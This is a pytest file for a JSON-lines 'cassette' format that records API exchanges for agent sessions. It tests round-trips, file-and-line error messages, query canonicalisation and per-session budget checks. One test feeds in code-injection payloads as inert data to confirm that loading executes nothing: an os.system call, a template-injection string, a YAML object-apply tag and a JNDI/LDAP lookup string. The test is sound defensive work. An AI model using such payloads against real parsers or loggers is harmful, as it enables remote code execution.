"""The cassette format (DESIGN.md §3): round-trip, readable errors, inert loading, canonical
queries; and what every committed cassette must hold: a session created with a budget."""

from __future__ import annotations

import copy
import json
import re

import pytest

from tests.replay import SCENARIO_DIR, SHIPPED_CASSETTE
from tests.replay.cassette import Cassette, CassetteError, canonical_query, dumps_line, new_header
from tests.replay_fixtures import (
    SDK,
    SESSION_ID,
    TS,
    event,
    exchange,
    make_cassette,
    notebook_flow_cassette,
    send_exchange,
    sse,
)


def _keys_sorted_everywhere(value) -> bool:
    if isinstance(value, dict):
        return list(value) == sorted(value) and all(
            _keys_sorted_everywhere(v) for v in value.values()
        )
    if isinstance(value, list):
        return all(_keys_sorted_everywhere(v) for v in value)
    return True


# -- round trip ---------------------------------------------------------------------------------------


def test_round_trip_dumps_parse_save_load(tmp_path):
    cassette = notebook_flow_cassette()
    # Text that must survive: newlines inside a value, non-ASCII, quotes.
    cassette.exchanges[0]["request"]["json"]["system"] = 'Line one\nline "two" — café ✓'
    text = cassette.dumps()

    again = Cassette.parse(text)
    assert again == cassette
    assert again.dumps() == text  # stable: a second write changes nothing

    path = tmp_path / "flow.jsonl"
    cassette.save(path)
    assert path.read_text(encoding="utf-8") == text
    assert Cassette.load(path) == cassette


def test_written_form_one_line_per_exchange_keys_sorted():
    cassette = notebook_flow_cassette()
    text = cassette.dumps()
    lines = text.split("\n")
    assert lines[-1] == "" and text.endswith("\n")
    lines = lines[:-1]
    assert len(lines) == 1 + len(cassette.exchanges)  # header + one line per exchange
    assert json.loads(lines[0]) == cassette.header
    for line, ex in zip(lines[1:], cassette.exchanges, strict=True):
        assert json.loads(line) == ex
    for line in lines:
        parsed = json.loads(line)  # a dict keeps the order its keys were written in
        assert _keys_sorted_everywhere(parsed), line[:120]
        assert line == dumps_line(parsed)
    # Readable: UTF-8 stays as it is, not \u escapes.
    assert dumps_line({"text": "café ✓"}) == '{"text":"café ✓"}'


def test_a_lone_surrogate_is_escaped_and_only_on_its_line(tmp_path):
    """A preview delta split inside a UTF-16 pair has no UTF-8 form: that line falls back to
    \\u escapes (valid UTF-8, decodes to the same string); other lines stay readable."""
    cassette = make_cassette(
        [send_exchange("café \ud83d", "sevt_1"), send_exchange("café", "sevt_2")]
    )
    path = tmp_path / "halves.jsonl"
    cassette.save(path)
    lines = path.read_bytes().decode("utf-8").splitlines()
    assert "\\ud83d" in lines[1] and "caf\\u00e9" in lines[1]
    assert "café" in lines[2]
    assert Cassette.load(path) == cassette


def test_the_header_is_the_first_line_with_the_formats_five_fields(tmp_path):
    """DESIGN.md §3: line 1 of a cassette is its header, keys sorted: the format's version,
    provenance, when it was made, the SDK that made it and a description; the shipped one's too."""
    Cassette(new_header("recorded", TS, SDK, "one run"), []).save(tmp_path / "one.jsonl")
    first = (tmp_path / "one.jsonl").read_text(encoding="utf-8").splitlines()[0]
    fields = {"cassette": 1, "provenance": "recorded", "created": TS, "sdk": SDK}
    assert json.loads(first) == fields | {"description": "one run"}
    assert list(json.loads(first)) == sorted(fields | {"description": ""})
    shipped = Cassette.load(SHIPPED_CASSETTE).header
    assert sorted(shipped) == sorted(fields | {"description": ""})
    assert shipped["cassette"] == 1 and shipped["provenance"] in ("scripted", "recorded")
    assert re.fullmatch(r"anthropic \d+\.\d+\.\d+", shipped["sdk"])
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", shipped["created"])


# -- errors name the file and the line ------------------------------------------------------------------


def _lines(*objects) -> list[str]:
    return [o if isinstance(o, str) else dumps_line(o) for o in objects]


HEADER = new_header("scripted", TS, SDK, "errors")
RETRIEVE = exchange("GET", f"/v1/sessions/{SESSION_ID}", {"json": {}})
SEND = send_exchange("hi", "sevt_1")


def _stream(*entries) -> dict:
    return exchange("GET", f"/v1/sessions/{SESSION_ID}/events/stream", {"sse": list(entries)})


IDLE = event("session.status_idle", "sevt_9", stop_reason={"type": "end_turn"})

BAD_CASSETTES = {
    # name: (lines, the 1-based line the error must name, words the message must contain)
    "not json": (_lines(HEADER, RETRIEVE, '{"request": {"method": "GET",'), 3, ["not valid JSON"]),
    "missing header": (_lines(RETRIEVE, RETRIEVE), 1, ["header"]),
    "empty file": ([], 1, ["empty"]),
    "bad provenance": (_lines({**HEADER, "provenance": "made-up"}, RETRIEVE), 1, ["provenance"]),
    "missing response": (
        _lines(HEADER, RETRIEVE, {"request": RETRIEVE["request"]}),
        3,
        ["exchange 2", "response"],
    ),
    "sse event without delay_ms": (
        _lines(HEADER, SEND, _stream(sse(IDLE), {"event": IDLE["type"], "data": IDLE})),
        3,
        ["exchange 2", "SSE event 2", "delay_ms"],
    ),
    "after names a non-send": (
        _lines(HEADER, RETRIEVE, SEND, _stream(sse(IDLE, after=1))),
        4,
        ["exchange 3", "SSE event 1", "after=1", "POST .../events"],
    ),
    "after out of range": (_lines(HEADER, SEND, _stream(sse(IDLE, after=7))), 3, ["after=7"]),
    "after zero": (_lines(HEADER, SEND, _stream(sse(IDLE, after=0))), 3, ["after=0"]),
    "query values neither text nor lists": (
        _lines(HEADER, exchange("GET", "/v1/files", {"json": {}}, query={"scope_id": 5})),
        2,
        ["query"],
    ),
}


@pytest.mark.parametrize("name", list(BAD_CASSETTES))
def test_load_errors_name_file_and_line(tmp_path, name):
    lines, line_no, words = BAD_CASSETTES[name]
    path = tmp_path / "bad cassette.jsonl"
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    with pytest.raises(CassetteError) as info:
        Cassette.load(path)
    message = str(info.value)
    assert str(path) in message
    assert f"line {line_no}:" in message
    for word in words:
        assert word in message, message
    assert (info.value.path, info.value.line) == (str(path), line_no)


def test_line_numbers_count_blank_lines(tmp_path):
    """Blank lines are skipped but still counted, so the number points at the line in an editor."""
    path = tmp_path / "gaps.jsonl"
    path.write_text(
        "\n".join(_lines(HEADER, "", RETRIEVE, "", "", "{oops")) + "\n", encoding="utf-8"
    )
    with pytest.raises(CassetteError, match=r"line 6: not valid JSON"):
        Cassette.load(path)


def test_a_valid_after_is_accepted():
    text = "".join(line + "\n" for line in _lines(HEADER, _stream(sse(IDLE, after=2)), SEND))
    cassette = Cassette.parse(text)
    assert cassette.exchanges[0]["response"]["sse"][0]["after"] == 2


# -- loading never executes anything ------------------------------------------------------------------


def test_loading_is_inert(tmp_path, monkeypatch):
    marker = tmp_path / "PWNED"
    payloads = [
        f"__import__('os').system('touch {marker}')",
        f"{{{{ __import__('os').system('touch {marker}') }}}}",
        "!!python/object/apply:os.system ['touch PWNED']",
        "${jndi:ldap://example.invalid/a}",
    ]
    monkeypatch.chdir(tmp_path)
    text = make_cassette(
        [
            exchange(
                "POST",
                "/v1/agents",
                {"json": {"name": payloads[0], "system": payloads[1], "__class__": payloads[2]}},
                body={"json": {"name": payloads[3], "__reduce__": payloads[0]}},
            )
        ],
        description=payloads[0],
    ).dumps()
    path = tmp_path / "evil.jsonl"
    path.write_text(text, encoding="utf-8")

    cassette = Cassette.load(path)

    assert not marker.exists() and not (tmp_path / "PWNED").exists()
    assert cassette.header["description"] == payloads[0]
    response = cassette.exchanges[0]["response"]["json"]
    assert response == {"name": payloads[0], "system": payloads[1], "__class__": payloads[2]}
    assert all(type(v) is str for v in response.values())
    assert cassette.exchanges[0]["request"]["json"] == {
        "name": payloads[3],
        "__reduce__": payloads[0],
    }


# -- canonical_query ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw, expected",
    [
        ("event_deltas%5B%5D=agent.message&beta=true", {"event_deltas[]": ["agent.message"]}),
        (
            "event_deltas%5B%5D=agent.message&event_deltas%5B%5D=agent.thinking",
            {"event_deltas[]": ["agent.message", "agent.thinking"]},
        ),
        ("event_deltas[]=agent.message", {"event_deltas[]": ["agent.message"]}),
        ("scope_id=sesn_1&limit=2&limit=3", {"limit": ["2", "3"], "scope_id": ["sesn_1"]}),
        (
            "created_at%5Bgt%5D=2026-05-01T12%3A00%3A00Z",
            {"created_at[gt]": ["2026-05-01T12:00:00Z"]},
        ),
        ("page=", {"page": [""]}),
        ("", {}),
        ("beta=true", {}),
    ],
)
def test_canonical_query(raw, expected):
    got = canonical_query(raw)
    assert got == expected
    assert list(got) == sorted(got)


def test_canonical_query_keys_sorted_whatever_the_order():
    assert list(canonical_query("z=1&a=2&m=3&a=4")) == ["a", "m", "z"]
    assert canonical_query("z=1&a=2&m=3&a=4")["a"] == ["2", "4"]


# -- every session is created with a budget, and its session.usage events echo it --------------------
# https://platform.claude.com/docs/en/managed-agents/budgets: `budget` is set on sessions.create as
# {"type": "limit", "max_list_cost": {"amount": "<whole US cents>", "currency": "USD"}}, the amount a
# string with no leading zeros and above zero, USD the only currency; every session.usage event
# carries "an echo of the session's `budget`". See tests/replay/CONFORMANCE.md, "Budgets".

CENTS = re.compile(r"[1-9][0-9]*")
SESSION_EVENTS = re.compile(r"/v1/sessions/([^/]+)/events(?:/stream)?")


def _session_creates(cassette: Cassette) -> list[dict]:
    """The cassette's sessions.create exchanges (POST /v1/sessions)."""
    return [
        ex
        for ex in cassette.exchanges
        if (ex["request"]["method"], ex["request"]["path"]) == ("POST", "/v1/sessions")
    ]


def _usage_events(cassette: Cassette) -> list[tuple[str | None, dict]]:
    """Every session.usage event the cassette holds, on a stream or in an events.list page, with
    the session whose path it came on."""
    found = []
    for ex in cassette.exchanges:
        match = SESSION_EVENTS.fullmatch(ex["request"]["path"])
        session = match[1] if match else None
        response = ex["response"]
        page = response.get("json")
        listed = page.get("data") if isinstance(page, dict) else None
        for data in [entry.get("data") for entry in response.get("sse", [])] + (listed or []):
            if isinstance(data, dict) and data.get("type") == "session.usage":
                found.append((session, data))
    return found


def _budget_shape_problem(budget) -> str | None:
    """Why `budget` is not of the documented shape, or None."""
    if not isinstance(budget, dict) or set(budget) != {"type", "max_list_cost"}:
        return f"{budget!r} is not {{type, max_list_cost}}"
    cap = budget["max_list_cost"]
    if budget["type"] != "limit":
        return f"type is {budget['type']!r}, not 'limit'"
    if not isinstance(cap, dict) or set(cap) != {"amount", "currency"}:
        return f"max_list_cost {cap!r} is not {{amount, currency}}"
    if not (isinstance(cap["amount"], str) and CENTS.fullmatch(cap["amount"])):
        return f"amount {cap['amount']!r} is not whole cents above zero, as a string"
    if cap["currency"] != "USD":
        return f"currency {cap['currency']!r} is not 'USD'"
    return None


def budget_problems(cassette: Cassette) -> list[str]:
    """What is wrong with the budgets of a cassette that creates a session: each create request
    carries a budget of the documented shape, its response echoes it, and every session.usage
    event of that session echoes exactly that budget."""
    problems, budgets = [], {}
    for ex in _session_creates(cassette):
        request = ex["request"].get("json") or {}
        budget = request.get("budget")
        if problem := _budget_shape_problem(budget):
            problems.append(f"sessions.create request: {problem}")
            continue
        body = ex["response"].get("json") or {}
        if body.get("budget") != budget:
            problems.append(f"sessions.create response budget {body.get('budget')!r} != {budget!r}")
        budgets[body.get("id")] = budget
    for session, usage in _usage_events(cassette):
        if session not in budgets:
            problems.append(f"session.usage {usage.get('id')} of an unknown session {session}")
        elif usage.get("budget") != budgets[session]:
            problems.append(
                f"session.usage {usage.get('id')} echoes {usage.get('budget')!r},"
                f" not {budgets[session]!r}"
            )
    return problems


# Collected at import: only cassettes that create a session (the HTTP-error scenarios stop before
# sessions.create, so they would assert nothing).
BUDGETED = {
    ("shipped" if path == SHIPPED_CASSETTE else path.stem): path
    for path in [SHIPPED_CASSETTE, *sorted(SCENARIO_DIR.glob("*.jsonl"))]
    if _session_creates(Cassette.load(path))
}


@pytest.mark.parametrize("name", list(BUDGETED))
def test_every_session_is_created_with_a_budget_that_its_usage_events_echo(name):
    cassette = Cassette.load(BUDGETED[name])
    assert _session_creates(cassette)
    assert budget_problems(cassette) == [], BUDGETED[name]


def test_the_budget_check_catches_a_missing_budget_and_a_wrong_echo():
    shipped = Cassette.load(SHIPPED_CASSETTE)
    assert budget_problems(shipped) == [] and _usage_events(shipped)  # it has something to check

    unbudgeted = copy.deepcopy(shipped)
    del _session_creates(unbudgeted)[0]["request"]["json"]["budget"]
    assert any("sessions.create request" in p for p in budget_problems(unbudgeted))

    in_dollars = copy.deepcopy(shipped)
    _session_creates(in_dollars)[0]["request"]["json"]["budget"]["max_list_cost"]["amount"] = "1.00"
    assert any("whole cents" in p for p in budget_problems(in_dollars))

    wrong_echo = copy.deepcopy(shipped)
    _usage_events(wrong_echo)[-1][1]["budget"] = None
    assert any("echoes None" in p for p in budget_problems(wrong_echo))
